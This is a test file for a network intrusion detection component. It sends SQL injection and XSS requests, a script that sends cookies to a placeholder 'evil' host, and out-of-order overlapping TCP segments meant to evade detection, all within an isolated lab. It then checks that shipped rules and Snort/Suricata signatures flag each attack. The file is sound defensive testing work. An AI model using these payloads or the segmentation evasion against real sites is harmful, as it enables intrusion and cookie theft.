/**
 * payload-match over reassembled TCP streams, on real traffic: the victim
 * advertises an MSS of 48 to the attacker (a route with `advmss 48`; the
 * attacker's veth sends no GSO super-packets, `gso_max_segs 1`), so every
 * request the attacker sends with curl arrives in segments of 36 bytes. A
 * raw-socket tool (tests/support/tcp-segments.py) sends a request as
 * out-of-order and overlapping segments. tcpdump captures on the victim;
 * the capture goes through pcap-in → payload-match in a real Node-RED
 * runtime. Each attack must raise its rule exactly once with the attacker
 * as offender (the shipped JSON rules and two Snort/Suricata rules: one on
 * http.uri, one on the raw stream); a client's page loads, a 2 MB download and a form post of
 * prose must raise nothing.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { Lab, netnsUnavailable, toolMissing } from '../support/netns';
import { packageRoot, type Runtime } from '../support/red-runtime';
import { alertsOfCapture, curl, startWebCapture } from '../support/web-capture';
import { startHttpTarget } from '../support/http-target';
import type { Alert } from '../../lib/detect/alert';

const VIC_A = '10.237.1.1';
const ATK = '10.237.1.2';
const VIC_B = '10.237.2.1';
const CLI = '10.237.2.2';
const PORT = 8080;
const SEGMENT_TOOL = path.join(packageRoot, 'tests', 'support', 'tcp-segments.py');

let skip: string | null = null;
let lab: Lab | null = null;
let tmp = '';
let runtime: Runtime | null = null;
let alerts: Alert[] = [];
/** Frames from the attacker longer than a 48-byte-MSS segment can be, and data frames in all. */
let bigFrames = -1;
let atkFrames = 0;
let rawToolSaid = '';
/** Packets tcpdump's kernel buffer dropped (-1: it did not say). */
let capDrops = -1;

/** The request the raw tool sends: an XSS event handler, in segments 3, 1, 4, 2 where 2 overlaps 1 and 3. */
const OOO_REQUEST = 'GET /search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1\r\nHost: victim\r\n\r\n';
const OOO_SEGMENTS: [number, string][] = [[40, OOO_REQUEST.slice(40, 60)], [0, OOO_REQUEST.slice(0, 24)], [60, OOO_REQUEST.slice(60)], [16, OOO_REQUEST.slice(16, 48)]];

/** What each attack must raise: rule, the buffer named in the reason, and what was matched. */
const EXPECTED: { what: string; rule: string; reason: RegExp }[] = [
  { what: 'SQL injection in the URI, split by a 48-byte MSS', rule: 'payload.sqli.union', reason: /^HTTP uri from .*: "UNION SELECT"/ },
  { what: 'XSS in the URI, split by a 48-byte MSS', rule: 'payload.xss.script', reason: /^HTTP uri from .*: "<script"/ },
  { what: 'XSS in out-of-order, overlapping segments (raw sockets)', rule: 'payload.xss.event_handler', reason: /^HTTP uri from .*: "<img src=x onerror="/ },
  { what: 'SQL injection in a chunked POST body', rule: 'payload.sqli.tautology', reason: /^HTTP request_body from .*: "or '1'='1"/ },
  { what: 'XSS in a gzip-compressed POST body', rule: 'payload.xss.script', reason: /^HTTP request_body from .*: "<script"/ },
  { what: 'a Snort/Suricata rule on http.uri, the SQL injection split by a 48-byte MSS', rule: 'sig:1:9200001', reason: /"LOCAL SQLi UNION in URI" .* in http\.uri: "UNION SELECT"$/ },
  { what: 'a Snort/Suricata rule on the stream, the out-of-order overlapping segments', rule: 'sig:1:9200002', reason: /"LOCAL img onerror in stream" .* in stream: "onerror%3Dalert"$/ },
];

/** Rule-language rules beside the shipped JSON ones: one on the normalised URI, one on the reassembled bytes. */
const SIGNATURES = [
  'alert http any any -> $HOME_NET any (msg:"LOCAL SQLi UNION in URI"; flow:established,to_server; http.uri; content:"UNION SELECT"; nocase; classtype:web-application-attack; sid:9200001; rev:1;)',
  `alert tcp any any -> any ${PORT} (msg:"LOCAL img onerror in stream"; flow:established,to_server; content:"onerror%3Dalert"; sid:9200002; rev:1;)`,
].join('\n');

before(async () => {
  skip = (await netnsUnavailable()) ?? (await toolMissing('tcpdump', 'curl', 'python3', 'iptables'));
  if (skip) return;
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ips-streams-'));
  lab = new Lab();
  const vic = await lab.host('vic');
  const atk = await lab.host('atk');
  const cli = await lab.host('cli');
  const { aIf: vicToAtk, bIf: atkIf } = await lab.link(vic, `${VIC_A}/24`, atk, `${ATK}/24`);
  await lab.link(vic, `${VIC_B}/24`, cli, `${CLI}/24`);
  // Tiny segments from the attacker: the victim advertises MSS 48 on its route to it, and the attacker's
  // veth hands the kernel no GSO super-packets (which tcpdump would see whole).
  await vic.exec('ip', ['route', 'add', `${ATK}/32`, 'dev', vicToAtk, 'advmss', '48']);
  await atk.exec('ip', ['link', 'set', 'dev', atkIf, 'gso_max_segs', '1']);
  // The raw-socket tool's connections are unknown to the attacker's kernel: keep it from resetting them.
  await atk.exec('iptables', ['-A', 'OUTPUT', '-p', 'tcp', '--tcp-flags', 'RST', 'RST', '-d', VIC_A, '--dport', String(PORT), '-j', 'DROP']);
  await startHttpTarget(vic, '0.0.0.0', PORT);

  const file = path.join(tmp, 'streams.pcap');
  // A large buffer (-B, KiB): on a loaded machine the default one drops packets, and a dropped segment is a hole no IDS can fill.
  const capture = await startWebCapture(vic, file, PORT, ['-B', '32768']);

  // Attacks, from the attacker (segments of 36 bytes).
  const vicA = `http://${VIC_A}:${PORT}`;
  const base = `http://${VIC_B}:${PORT}`;
  await curl(atk, [`${vicA}/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--`]);
  await curl(atk, ['-G', '--data-urlencode', 'q=<script>alert(document.cookie)</script>', `${vicA}/search`]);
  rawToolSaid = (await atk.exec('python3', [SEGMENT_TOOL, ATK, VIC_A, String(PORT), JSON.stringify(OOO_SEGMENTS)], { timeoutMs: 20_000 })).stdout.trim();
  const chunkedBody = path.join(tmp, 'login.txt');
  fs.writeFileSync(chunkedBody, "user=admin' or '1'='1&pw=x");
  await curl(atk, ['-H', 'Transfer-Encoding: chunked', '--data-binary', `@${chunkedBody}`, `${vicA}/login`]);
  const gzBody = path.join(tmp, 'comment.gz');
  fs.writeFileSync(gzBody, zlib.gzipSync(Buffer.from('comment=Nice post!<script>fetch("//evil/"+document.cookie)</script>')));
  await curl(atk, ['-H', 'Content-Encoding: gzip', '-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', `@${gzBody}`, `${vicA}/comment`]);

  // Benign, from the client, after the attacks (the download is the bulk of the capture): page loads, a download, a form post of prose.
  for (const url of ['/', '/index.html', '/item?id=2', '/api/items?limit=20&offset=40&q=red+shoes', '/search?q=union+station+hotels']) await curl(cli, [`${base}${url}`]);
  await curl(cli, ['-Z', '--parallel-max', '6', ...['app.js', 'site.css', 'logo.png', 'font.woff2', 'a.js', 'b.css'].flatMap((f) => ['-o', '/dev/null', `${base}/static/${f}`])]);
  await curl(cli, [`${base}/files/backup.tar.gz`], 30);
  const prose = 'message=Hello! Please drop the table off at my place on Friday; select whichever time suits you, or 1 or 2 pm if easier. '
    + 'The union meeting ran late, so from now on I sleep in on Mondays. Thanks & see you, Ann <ann@example.org>';
  await curl(cli, ['--data-urlencode', prose, `${base}/contact`]);
  const gzProse = path.join(tmp, 'prose.gz');
  fs.writeFileSync(gzProse, zlib.gzipSync(Buffer.from(prose)));
  await curl(cli, ['-H', 'Content-Encoding: gzip', '--data-binary', `@${gzProse}`, `${base}/contact`]);

  capDrops = await capture.stop(cli, `${base}/end-of-capture-marker`);
  // Proof the attacks really travelled in small segments: frames from the attacker with data, and none too long for MSS 48.
  const count = async (filter: string): Promise<number> => (await vic.exec('tcpdump', ['-r', file, '-nn', filter])).stdout.split('\n').filter((l) => l.trim() !== '').length;
  bigFrames = await count(`src host ${ATK} and greater 150`);
  atkFrames = await count(`src host ${ATK} and (ip[2:2] - ((ip[0] & 0xf) << 2) - ((tcp[12] & 0xf0) >> 2)) != 0`);

  ({ runtime, alerts } = await alertsOfCapture(file, 'streams', { signatures: SIGNATURES }));
});

after(async () => {
  if (runtime) await runtime.stop();
  if (lab) await lab.cleanup();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

describe('payload-match on reassembled streams (tcpdump capture → pcap-in → payload-match)', () => {
  it('the attacks travelled in segments of at most 48 bytes', (t) => {
    if (skip) return t.skip(skip);
    assert.equal(capDrops, 0, 'tcpdump dropped no packet');
    assert.equal(bigFrames, 0, 'no frame from the attacker longer than MSS 48 allows');
    assert.ok(atkFrames >= 15, `data segments from the attacker: ${atkFrames}`);
    assert.match(rawToolSaid, new RegExp(`^acked ${OOO_REQUEST.length}$`), 'the victim acknowledged the whole out-of-order request');
  });

  for (const e of EXPECTED) {
    it(`${e.what}: ${e.rule} once, the attacker as offender`, (t) => {
      if (skip) return t.skip(skip);
      const mine = alerts.filter((a) => a.rule === e.rule && e.reason.test(a.reason));
      assert.equal(mine.length, 1, `alerts: ${alerts.map((a) => `${a.src} ${a.rule}: ${a.reason}`).join('\n')}`);
      const a = mine[0];
      assert.equal(a.src, ATK);
      assert.equal(a.offender, ATK);
      assert.equal(a.dst, VIC_A);
      assert.equal(a.dport, PORT);
    });
  }

  it('raises nothing else from the attacker', (t) => {
    if (skip) return t.skip(skip);
    const others = alerts.filter((a) => a.src === ATK && !EXPECTED.some((e) => a.rule === e.rule && e.reason.test(a.reason)));
    assert.deepEqual(others.map((a) => `${a.rule}: ${a.reason}`), []);
  });

  it('page loads, a 2 MB download and a form post of prose (plain and gzip) raise nothing', (t) => {
    if (skip) return t.skip(skip);
    assert.deepEqual(alerts.filter((a) => a.src !== ATK).map((a) => `${a.src} ${a.rule}: ${a.reason}`), []);
  });
});
